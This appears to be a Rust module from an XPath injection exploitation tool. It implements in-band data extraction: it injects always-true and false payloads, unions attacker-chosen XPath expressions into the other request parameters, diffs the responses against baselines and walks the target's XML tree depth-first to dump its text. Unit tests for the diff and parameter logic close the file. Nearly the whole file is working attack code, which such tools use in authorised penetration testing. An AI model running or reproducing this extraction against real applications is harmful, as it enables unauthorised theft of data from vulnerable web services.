//! In-band extraction via response diffing.
//!
//! When the vulnerable query's result is rendered back into the page, data
//! can be pulled out by making the query return attacker-chosen nodes and
//! diffing the response against a known-empty baseline. Orders of
//! magnitude fewer requests than blind extraction, at the cost of only
//! working on reflective applications.

use crate::context::AttackContext;
use crate::error::{Error, Result};
use crate::request::{get_response_body, get_response_with_match};
use regex::Regex;
use similar::{ChangeTag, TextDiff};
use std::sync::OnceLock;
use tracing::{info, warn};

const MAX_DEPTH: usize = 20;
const MAX_CHILDREN: usize = 500;
const MAX_REQUESTS: usize = 5000;

/// Below this many items from the simple diff, a row limit is suspected
/// and tree traversal is attempted.
const SIMPLE_DIFF_SUFFICIENT: usize = 50;

/// Remove HTML tags and decode entities. Tags become newlines so that
/// diff chunks never split mid-tag (which would leak fragments like `>` or
/// `<br` as false text).
fn strip_tags(text: &str) -> String {
    static TAG_RE: OnceLock<Regex> = OnceLock::new();
    let tag_re = TAG_RE.get_or_init(|| Regex::new(r"<[^>]+>").expect("valid regex"));
    let stripped = tag_re.replace_all(text, "\n");
    html_escape::decode_html_entities(stripped.as_ref()).into_owned()
}

/// Text present in `data_body` but not in `empty_body`: strip both, take
/// the LCS opcodes, and keep the inserted/replaced lines from the data
/// side, trimmed, empties dropped.
pub fn extract_text_from_diff(empty_body: &str, data_body: &str) -> Vec<String> {
    let empty_text = strip_tags(empty_body);
    let data_text = strip_tags(data_body);

    let diff = TextDiff::from_lines(&empty_text, &data_text);
    let mut extracted = Vec::new();
    for change in diff.iter_all_changes() {
        if change.tag() == ChangeTag::Insert {
            let line = change.value().trim();
            if !line.is_empty() {
                extracted.push(line.to_string());
            }
        }
    }
    extracted
}

/// Param overrides that union `xpath` into every non-target parameter
fn make_union_overrides(context: &AttackContext, xpath: &str) -> Vec<(String, String)> {
    context
        .parameters
        .iter()
        .filter(|(key, _)| key != &context.target_parameter)
        .map(|(key, value)| (key.clone(), format!("{} | {}", value, xpath)))
        .collect()
}

/// DFS over the XML tree using positional predicates unioned into
/// non-target parameters. The target parameter carries the false payload
/// so the original query contributes nothing; only the union shows up in
/// the response.
///
/// Two classification layers: the user's match function decides whether a
/// probed path EXISTS (robust against dynamic content like CSRF tokens,
/// because it checks a specific indicator rather than body equality), and
/// a diff against the results baseline separates leaves (new text) from
/// intermediate nodes (none).
async fn tree_traverse(
    context: &AttackContext,
    false_payload: &str,
) -> Result<(Vec<String>, usize)> {
    let mut all_text: Vec<String> = Vec::new();
    let mut requests = 0usize;

    // Baseline: a response where XPath returned a node with no displayable
    // text (the root element), capturing the app's "results" template.
    let overrides = make_union_overrides(context, "/*[1]");
    let (results_body, results_match) =
        get_response_with_match(context, false_payload, Some(&overrides)).await?;
    requests += 1;

    if !results_match {
        // Root not reachable through the union; traversal cannot work.
        return Ok((all_text, requests));
    }

    // Stack entries: (parent_path, child_index, depth)
    let mut stack: Vec<(String, usize, usize)> = vec![("/*[1]".to_string(), 1, 1)];

    while let Some((parent_path, child_idx, depth)) = stack.pop() {
        if requests >= MAX_REQUESTS {
            warn!(
                limit = MAX_REQUESTS,
                "tree traversal hit the request limit, stopping with partial output"
            );
            break;
        }
        if depth > MAX_DEPTH || child_idx > MAX_CHILDREN {
            continue;
        }

        let current_path = format!("{}/*[{}]", parent_path, child_idx);
        let overrides = make_union_overrides(context, &current_path);
        let (probe_body, exists) =
            get_response_with_match(context, false_payload, Some(&overrides)).await?;
        requests += 1;

        if !exists {
            // Path does not exist; nothing at this index or beyond it.
            continue;
        }

        let lines = extract_text_from_diff(&results_body, &probe_body);
        if lines.is_empty() {
            // Intermediate node: descend, then continue with siblings.
            stack.push((parent_path, child_idx + 1, depth));
            stack.push((current_path, 1, depth + 1));
        } else {
            for line in &lines {
                println!("{}", line);
            }
            all_text.extend(lines);
            stack.push((parent_path, child_idx + 1, depth));
        }
    }

    Ok((all_text, requests))
}

/// Extract data in-band. Phase 1 is a simple three-request diff; phase 2
/// is the union-based tree traversal for row-limited applications.
/// Returns `None` when nothing was extractable so the caller can fall
/// back to blind extraction.
pub async fn inband_extract(context: &AttackContext) -> Result<Option<Vec<String>>> {
    info!("in-band mode: calibrating");

    let injection = context.injection.as_ref().ok_or(Error::NoInjections)?;
    let working = context.target_parameter_value().to_string();

    let test_payloads = injection.test_payloads(&working);
    let false_payload = test_payloads
        .iter()
        .find(|(_, expected)| !expected)
        .map(|(payload, _)| payload.clone())
        .ok_or(Error::NoInjections)?;

    // An always-true payload returns ALL rows, not just the ones matching
    // the working value: "X and true() or true() and Y" is unconditionally
    // true because `and` binds tighter than `or`. Builder payloads reject
    // the raw string; fall back to the standard true probe (which filters
    // by the working value).
    let all_data_payload = match injection.render_raw(&working, "true() or true()") {
        Ok(payload) => payload,
        Err(_) => test_payloads
            .iter()
            .find(|(_, expected)| *expected)
            .map(|(payload, _)| payload.clone())
            .ok_or(Error::NoInjections)?,
    };

    let false_body = get_response_body(context, &false_payload, None).await?;

    // Phase 1: simple diff.
    let basic_body = get_response_body(context, &all_data_payload, None).await?;

    let has_union_params = context
        .parameters
        .iter()
        .any(|(key, _)| key != &context.target_parameter);

    let union_body = if has_union_params {
        let overrides = make_union_overrides(context, "//text()");
        get_response_body(context, &all_data_payload, Some(&overrides)).await?
    } else {
        basic_body.clone()
    };

    let basic_lines = extract_text_from_diff(&false_body, &basic_body);
    let union_lines = extract_text_from_diff(&false_body, &union_body);
    let diff_lines = if union_lines.len() > basic_lines.len() {
        union_lines
    } else {
        basic_lines
    };

    // Phase 2: tree traversal. Few items from the simple diff usually
    // means the app caps its result rows; DFS over positional predicates
    // reaches the rest.
    if has_union_params && diff_lines.len() < SIMPLE_DIFF_SUFFICIENT {
        if diff_lines.is_empty() {
            info!("simple diff found no data, trying tree traversal");
        } else {
            info!(
                items = diff_lines.len(),
                "simple diff yield is low, probing tree for additional data"
            );
        }

        let (tree_lines, tree_requests) = tree_traverse(context, &false_payload).await?;
        if tree_lines.len() > diff_lines.len() {
            info!(
                items = tree_lines.len(),
                requests = tree_requests,
                "tree traversal finished"
            );
            return Ok(Some(tree_lines));
        } else if tree_requests > 0 {
            info!(
                items = tree_lines.len(),
                requests = tree_requests,
                "tree traversal found no additional data"
            );
        }
    }

    if diff_lines.is_empty() {
        warn!("no text content found via in-band extraction");
        return Ok(None);
    }

    info!(items = diff_lines.len(), "extracted in 3 requests");
    Ok(Some(diff_lines))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn test_strip_tags_decodes_entities() {
        let stripped = strip_tags("<p>Tom &amp; Jerry</p><br/>next");
        assert_eq!(stripped, "\nTom & Jerry\n\nnext");
    }

    #[test]
    fn test_diff_extracts_inserted_lines() {
        let empty = "<html><body><h1>Results</h1><p>No results</p></body></html>";
        let data = "<html><body><h1>Results</h1><p>Genesis</p><p>Exodus</p></body></html>";
        let lines = extract_text_from_diff(empty, data);
        assert_eq!(lines, vec!["Genesis", "Exodus"]);
    }

    #[test]
    fn test_diff_identical_bodies_is_empty() {
        let body = "<html><body>same</body></html>";
        assert!(extract_text_from_diff(body, body).is_empty());
    }

    #[test]
    fn test_diff_never_leaks_tag_fragments() {
        let empty = "<div class=\"row\"></div>";
        let data = "<div class=\"row\"><span>Kings</span></div>";
        let lines = extract_text_from_diff(empty, data);
        assert_eq!(lines, vec!["Kings"]);
        for line in lines {
            assert!(!line.contains('<'));
            assert!(!line.contains('>'));
        }
    }

    #[test]
    fn test_union_overrides_skip_target() {
        use crate::context::{make_match_function, AttackContext, Encoding};

        let ctx = AttackContext::new(
            "http://example.test",
            "GET",
            "q",
            vec![
                ("q".to_string(), "Bible".to_string()),
                ("page".to_string(), "1".to_string()),
            ],
            make_match_function(None, Some(("x".to_string(), false))),
            1,
            Encoding::Url,
        );
        let overrides = make_union_overrides(&ctx, "/*[1]/*[2]");
        assert_eq!(
            overrides,
            vec![("page".to_string(), "1 | /*[1]/*[2]".to_string())]
        );
    }
}
